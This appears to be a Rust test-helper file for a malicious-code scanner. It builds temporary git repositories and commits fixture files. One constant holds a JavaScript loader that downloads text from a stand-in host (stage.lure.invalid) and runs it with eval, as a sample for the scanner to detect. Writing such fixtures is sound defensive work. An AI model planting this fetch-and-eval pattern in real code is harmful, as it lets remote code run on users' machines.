//! Repositories built by the tests, with the `git` program and nothing of this machine's configuration.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use lurescan::finding::Report;
use lurescan::scan::{Options, Unobserved, scan};
use lurescan::source::Target;
use lurescan::source::git::Wanted;
use tempfile::TempDir;

use crate::case::ENGINE;

/// A loader that blocks wherever it can be loaded; inert, for no host of that name exists.
pub const LURE: &str = "const https = require('https');\nhttps.get('https://stage.lure.invalid/a', (res) => {\n  \
    let text = '';\n  res.on('data', (part) => { text += part; });\n  res.on('end', () => eval(text));\n});\n";

/// A repository in a folder of its own.
pub struct Repo {
    pub place: TempDir,
}

impl Repo {
    /// An empty repository in `work`.
    pub fn new() -> Self {
        let place = tempfile::tempdir().expect("a temporary folder");
        fs::create_dir(place.path().join("work")).expect("a folder");
        let repo = Self { place };
        repo.git(&["init", "-q"]);
        repo
    }

    /// With one honest commit.
    pub fn honest() -> Self {
        let repo = Self::new();
        repo.write("package.json", "{\"name\": \"shop\", \"scripts\": {\"start\": \"node server.js\"}}\n");
        repo.write("server.js", "console.log('hello');\n");
        repo.commit("one");
        repo
    }

    pub fn top(&self) -> PathBuf {
        self.place.path().join("work")
    }

    pub fn beside(&self, name: &str) -> PathBuf {
        self.place.path().join(name)
    }

    pub fn git(&self, arguments: &[&str]) -> String {
        git(&self.top(), arguments)
    }

    pub fn write(&self, path: &str, content: impl AsRef<[u8]>) {
        let full = self.top().join(path);
        fs::create_dir_all(full.parent().expect("a parent")).expect("folders");
        fs::write(full, content).expect("a file");
    }

    /// Commits everything and gives the commit's id.
    pub fn commit(&self, message: &str) -> String {
        self.git(&["add", "-A"]);
        self.git(&["commit", "-q", "-m", message]);
        self.git(&["rev-parse", "HEAD"])
    }

    /// The loader at a path, in a commit.
    pub fn lure(&self, path: &str) -> String {
        self.write(path, LURE);
        self.commit("routes")
    }

    pub fn bare(&self) -> PathBuf {
        let bare = self.beside("bare.git");
        git(self.place.path(), &["clone", "-q", "--bare", "--no-local", &text(&self.top()), &text(&bare)]);
        bare
    }
}

pub fn text(path: &Path) -> String {
    path.to_str().expect("UTF-8").to_owned()
}

/// git, with a clock that stands still, so that ids are the same every time.
pub fn command(folder: &Path) -> Command {
    let mut command = Command::new("git");
    let settings =
        ["user.name=A", "user.email=a@example.invalid", "init.defaultBranch=main", "protocol.file.allow=always"];
    settings.iter().for_each(|setting| _ = command.args(["-c", setting]));
    command
        .current_dir(folder)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", folder)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_AUTHOR_DATE", "1700000000 +0000")
        .env("GIT_COMMITTER_DATE", "1700000000 +0000");
    command
}

pub fn git(folder: &Path, arguments: &[&str]) -> String {
    let out = command(folder).args(arguments).output().expect("git is installed");
    assert!(out.status.success(), "git {arguments:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// Everything that the object database holds.
pub fn history() -> Wanted {
    Wanted { history: Some(0), ..Wanted::default() }
}

pub fn reference(revision: &str) -> Wanted {
    Wanted { reference: Some(revision.to_owned()), ..Wanted::default() }
}

pub fn all_refs() -> Wanted {
    Wanted { all_refs: true, ..Wanted::default() }
}

/// A scan in process.
pub fn scanned(target: &Path, wanted: Wanted) -> Report {
    let options = Options { threads: 2, git: wanted, ..Options::default() };
    scan("target", &Target::Path(target.to_owned()), &ENGINE, &options, &Unobserved).expect("a report")
}

/// All files of a folder as a zip.
pub fn zip(folder: &Path, prefix: &str) -> Vec<u8> {
    use std::io::Write;
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for entry in walkdir::WalkDir::new(folder).sort_by_file_name().into_iter().filter_map(Result::ok) {
        if entry.file_type().is_file() {
            let path = entry.path().strip_prefix(folder).expect("below");
            out.start_file(format!("{prefix}{}", text(path)), zip::write::SimpleFileOptions::default())
                .expect("a member");
            out.write_all(&fs::read(entry.path()).expect("a file")).expect("bytes");
        }
    }
    out.finish().expect("a zip").into_inner()
}

/// All files of a folder as a tar.
pub fn tar(folder: &Path, prefix: &str) -> Vec<u8> {
    let mut out = tar::Builder::new(Vec::new());
    out.append_dir_all(prefix.trim_end_matches('/'), folder).expect("a tar");
    out.into_inner().expect("bytes")
}
